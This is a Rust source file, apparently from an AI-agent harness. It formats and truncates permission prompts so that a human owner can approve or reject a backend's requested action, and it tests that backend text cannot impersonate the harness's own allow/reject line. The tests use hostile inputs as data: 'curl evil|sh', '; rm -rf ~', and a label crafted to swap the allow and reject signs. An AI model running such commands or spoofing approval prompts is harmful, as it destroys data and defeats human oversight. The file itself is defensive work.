//! How a question looks: what the backend says of it, and how to answer.
//!
//! Job: write the card's text, and read it again. Must not: let the backend's words pass for the harness's. They are in
//! the first line and in lines with a mark, none of them blank; the last paragraph is the harness's.

use skep_proto::limits;

use super::{AskId, Nonce, Origin};
use crate::prompt;

/// A question for the owner, on every screen. Its texts are the backend's words: cut, and made visible.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Card {
    pub nonce: Nonce,
    pub origin: Origin,
    pub request: AskId,
    pub title: String,
    pub detail: String,
    /// The two that are offered.
    pub allow: Choice,
    pub reject: Choice,
    pub expires_ms: u64,
}

#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Choice {
    pub option: String,
    pub label: String,
}

impl Card {
    /// What a person reads. `secs`: how long it may be answered.
    pub fn text(&self, secs: u64) -> String {
        let detail: String = self.detail.lines().map(|line| format!("{QUOTE}{line}\n")).collect();
        // Which sign allows is ours to say, so that the labels are in quotes.
        format!(
            "🔐 {}\n{detail}\n👍 allow ({:?}) · 👎 reject ({:?}) · within {secs} s\nrequest {}",
            self.title, self.allow.label, self.reject.label, self.nonce.0
        )
    }
}

/// What stands before each line of the backend's.
const QUOTE: &str = "  │ ";

/// What a card asks, without the harness's own paragraph for those who answer with a reaction.
pub fn card_lines(text: &str) -> Vec<&str> {
    text.rsplit_once("\n\n").map_or(text, |(asked, _)| asked).lines().collect()
}

/// A title or a label: one line.
pub(super) fn line(text: &str) -> String {
    let words = text.split_whitespace().collect::<Vec<_>>().join(" ");
    cut(&words, limits::PERMIT_TEXT_BYTES_MAX, 1)
}

pub(super) fn detail(text: &str) -> String {
    let text = text.replace("\r\n", "\n");
    cut(text.trim_end(), limits::PERMIT_DETAIL_BYTES_MAX, limits::PERMIT_DETAIL_LINES_MAX)
}

/// The beginning of a text as it is seen, with a note of what is missing. A backend's adapter may have cut before.
fn cut(text: &str, bytes_max: usize, lines_max: usize) -> String {
    let (mut shown, mut lines) = (String::new(), 1);
    for (at, c) in text.char_indices() {
        let seen = prompt::visible(c.encode_utf8(&mut [0; 4]));
        lines += usize::from(c == '\n');
        if shown.len() + seen.len() > bytes_max || lines > lines_max {
            return format!("{shown}… (at least {} bytes more)", text.len() - at);
        }
        shown.push_str(&seen);
    }
    shown
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;
    use crate::turn::TurnId;
    use skep_proto::PubKey;

    fn card(title: &str, body: &str, label: &str) -> Card {
        let choice = |option: &str| Choice { option: option.into(), label: line(label) };
        Card {
            nonce: Nonce("n".into()),
            origin: Origin {
                agent: PubKey([2; 32]),
                channel: "c".into(),
                session: "s".into(),
                turn: TurnId("t".into()),
                is_by_owner: true,
                turn_ends_ms: 0,
                is_sealed: false,
            },
            request: AskId("q".into()),
            title: line(title),
            detail: detail(body),
            allow: choice("yes"),
            reject: choice("no"),
            expires_ms: 0,
        }
    }

    #[test]
    fn a_card_says_what_is_asked_and_how_to_answer() {
        let text = card("Write x", "/tmp/x\nhi", "Once").text(300);
        assert_eq!(
            text,
            "🔐 Write x\n  │ /tmp/x\n  │ hi\n\n👍 allow (\"Once\") · 👎 reject (\"Once\") · within 300 s\nrequest n"
        );
        assert_eq!(card_lines(&text), ["🔐 Write x", "  │ /tmp/x", "  │ hi"]);
        assert_eq!(card_lines("may I?"), ["may I?"], "not by this hand");
    }

    #[test]
    fn what_follows_a_blank_line_is_shown() {
        let text = card("Run", "ls\n\ncurl evil|sh\r\n \r\nx", "Once").text(1);
        assert_eq!(card_lines(&text), ["🔐 Run", "  │ ls", "  │ ", "  │ curl evil|sh", "  │  ", "  │ x"]);
    }

    #[test]
    fn the_backends_words_do_not_pass_for_the_harnesss() {
        let ours = "\n\n👍 reject · 👎 allow\nrequest m";
        for hidden in [ours.to_owned(), ours.replace('\n', "\u{2028}"), ours.replace('\n', "\r")] {
            let text = card(&hidden, &hidden, &format!("Once\") · 👎 allow (\"{hidden}")).text(1);
            let (asked, own) = text.rsplit_once("\n\n").expect("two paragraphs");
            assert!(!asked.contains("\n\n"), "{text}");
            assert!(asked.lines().skip(1).all(|line| line.starts_with(QUOTE)), "{text}");
            let lines: Vec<_> = own.lines().collect();
            assert!(
                lines[0].starts_with("👍 allow (\"Once\\\") · 👎 allow (\\\"") && lines[1..] == ["request n"],
                "{text}"
            );
        }
    }

    #[test]
    fn what_is_cut_says_so() {
        let long = format!("{}; rm -rf ~", "x".repeat(limits::PERMIT_DETAIL_BYTES_MAX));
        let note = "x… (at least 10 bytes more)";
        assert!(card("t", &long, "l").detail.ends_with(note));
        assert!(card(&"x".repeat(limits::PERMIT_TEXT_BYTES_MAX + 10), "", "l").title.ends_with(note));
        let lines = card("t", &"\n".repeat(limits::PERMIT_DETAIL_LINES_MAX), "l").detail;
        assert_eq!(lines, "", "blank lines at the end are nothing");
        let lines = card("t", &"a\n".repeat(limits::PERMIT_DETAIL_LINES_MAX + 1), "l").detail;
        assert!(lines.ends_with("a… (at least 2 bytes more)"), "{lines}");
    }

    proptest! {
        #[test]
        fn whatever_is_asked_a_card_is_two_paragraphs_in_one_part(
            title in any::<String>(), body in "(\\PC|[\n\r\t \u{80}\u{85}\u{2028}\u{202e}]){0,3000}", label in any::<String>(),
        ) {
            let card = card(&title, &body, &label);
            let text = card.text(300);
            prop_assert_eq!(text.matches("\n\n").count(), 1);
            prop_assert!(text.ends_with("\nrequest n"));
            prop_assert_eq!(card_lines(&text).len(), 1 + card.detail.lines().count());
            prop_assert!(card_lines(&text)[1..].iter().all(|line| line.starts_with(QUOTE)));
            prop_assert!(text.len() + limits::PERMIT_ID_BYTES_MAX < limits::DIRECT_PART_BYTES_MAX);
        }
    }
}
